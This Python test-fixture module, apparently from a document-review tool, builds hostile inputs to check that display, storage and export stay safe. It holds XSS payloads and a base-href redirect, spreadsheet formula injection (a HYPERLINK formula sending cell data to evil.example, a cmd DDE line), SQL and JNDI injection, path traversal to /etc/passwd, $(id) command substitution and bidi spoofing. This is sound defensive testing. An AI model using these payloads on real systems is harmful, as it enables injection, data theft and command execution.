"""Texts that were written to break, or happen to break, whatever shows, stores or exports them.

`DOCUMENTS` are short; `one_line`, `many_lines` and `long_word` are made when asked for. Each begins with its own name
and ": ", so that a test knows what it looks at. A page that runs one of them sets `window.hurt`.
"""

from __future__ import annotations

import json
from pathlib import Path

from review import workflow
from review.project import Project, open_project
from review.records import Document, Label, Ruling, Verdict
from review.settings import write_default

_HURT = "window.hurt=(window.hurt||0)+1"

DOCUMENTS: dict[str, str] = {
    "script": f"script: <script>{_HURT}</script><img src=x onerror='{_HURT}'><svg onload={_HURT}>\n"
    f"</textarea></title></style><iframe srcdoc='<script>parent.{_HURT}</script>'></iframe>\n"
    f"<style>*{{display:none!important}}</style><a href='javascript:{_HURT}'>go</a><base href='//evil.example/'>\n"
    "&lt;b&gt; stays &amp; as it is &#x3c;script&#x3e;",
    "markdown": "markdown: # no heading\n**not bold** _x_ ~~y~~ `code` [link](javascript:window.hurt=1) ![i](x)\n"
    "$x^2$ $$\\href{javascript:window.hurt=1}{x}$$ :red[hot] :material/home: :smile: -> <-\n"
    "| a | b |\n|---|---|\n- [x] done",
    "ansi": "ansi: \x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H \x9b31m "
    "\x1b]8;;http://evil.example\x1b\\x \x08\x08\x7f",
    "nul": "nul: a\x00b\x00\x00c \x01\x02\x03 end",
    "bidi": "bidi: \u202egpj.exe\u202c \u2067never closed \u202d\u2066 \u200f\u061c שלום abc مرحبا 123\nnext line",
    "formula": "=HYPERLINK(\"http://evil.example?\"&A1)|calc\n@SUM(1)\n-2+3\n+cmd|' /C calc'!A0\n\t=1\n\r=1",
    "zalgo": "zalgo: " + "".join(c + "\u0300\u0489\u0336\u0353" * 12 for c in "he comes to read") + " end",
    "emoji": "emoji: 👩‍👩‍👧‍👦 👍🏽 🏴‍☠️ 🇩🇪🇩 1️⃣ 🏳️‍🌈 ❤️ ‍‍‍ 🫱🏻‍🫲🏿 \U000e0067\U000e007f end",
    "breaks": "breaks: a\u2028b\u2029c\x85d\x0be\x0cf\rg\r\nh\n\n\n\ni\tj\u00a0k\u3000l\u200bm\ufeffn",
    "invisible": "\u200b\u200d\u2060\ufeff\u00ad\u180e invisible: \u034f\u115f\u3164\uffa0\u2800",
    "noncharacters": "noncharacters: \ufdd0 \ufffe \uffff \U0001fffe \U0010ffff \ue000 \ufffd",
    "sql": "sql: '; drop table labels; -- \" or 1=1 /* */ ?; $1 {limits} {{x}} %s %n {0.__class__} ${jndi:ldap://x}",
    "path": "path: ../../../../etc/passwd\\..\\..\\con NUL file:///etc/passwd ~root $(id) `id` | ; & > /dev/null",
    "json": 'json: </script><!-- "," \\u0000 \\ud800 {"verdict":"keep"} ]]> \\"; //',
}

# Halves of characters. No shard's text may hold them, but a note can.
HALVES = "high \ud800 low \udc00 swapped \udc00\ud800 whole \U0001f600 cut \ud83d"

# For names, notes, reasons and metadata: one line, of what Markdown, HTML, terminals and spreadsheets would act on.
NAME = f"=1+1 **b** $x$ :red[r] <img src=x onerror='{_HURT}'> \x1b[31m \u202e {{x}} %s"


def one_line(characters: int = 10_000_000) -> str:
    """A document without a line end."""
    unit = "the harbour keeps a book of every day and of every tide that came; "
    return ("one line: " + unit * (characters // len(unit) + 1))[:characters]


def many_lines(lines: int = 100_000) -> str:
    return "many lines: 0\n" + "\n".join(f"{n} tide" for n in range(1, lines))


def long_word(characters: int = 200_000) -> str:
    """No place to break."""
    return "word:" + "x" * characters


def make_project(root: Path, *texts: str) -> Project:
    """A project of DOCUMENTS and `texts` with hostile names everywhere, each document drawn; ana and NAME judged
    all of the short ones and differ on every second. Rows: DOCUMENTS, then HALVES, which is refused, then `texts`."""
    folder = root / "<b>files</b>"
    folder.mkdir(parents=True)
    rows = [
        {"text": text, "url": "javascript:window.hurt=1", "title": NAME, "<img src=x>": NAME, "language": NAME}
        for text in (*DOCUMENTS.values(), HALVES, *texts)
    ]
    name = NAME.replace("/", "-")
    (folder / f"{name}.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    (folder / f"broken {name}.parquet").write_bytes(b"PAR1")
    (folder / f"no UTF-8 {name} \udce9.jsonl").write_text('{"text": "a document"}')
    settings = write_default(root, name=NAME[:80])
    text = settings.read_text().replace("\noverlap = 1 ", "\noverlap = 20 ")
    settings.write_text(text.replace("\nreject = 0.06 ", "\nreject = 0.05 "))  # of so few documents, all are read
    project = open_project(root)
    workflow.ingest(project, [f"{folder}/*.jsonl", f"{folder}/*.parquet"], corpus_name=NAME, by=NAME)
    workflow.draw(project, n=len(rows), by=NAME)
    (shard,) = project.standings()
    drawn = {draw.row: draw.doc_id for draw in project.store.draws()}
    documents = project.store.documents([drawn[row] for row in range(len(DOCUMENTS))])
    for reviewer, turn in (("ana", 0), (NAME + HALVES, 1)):
        project.store.record_labels(
            [_label(document, reviewer, at * turn % 2) for at, document in enumerate(documents)]
        )
    workflow.decide(project, [shard], Ruling.HOLD, reason=NAME + HALVES, by=NAME + HALVES)
    return project


def _label(document: Document, reviewer: str, bad: int) -> Label:
    return Label(
        label_id=f"{reviewer}:{document.doc_id}",
        doc_id=document.doc_id,
        content_hash=document.content_hash,
        reviewer=reviewer,
        verdict=Verdict.REJECT if bad else Verdict.KEEP,
        reasons=("spam",) if bad else (),
        note=document.text if bad else NAME + HALVES,
        seconds=3.0,
    )
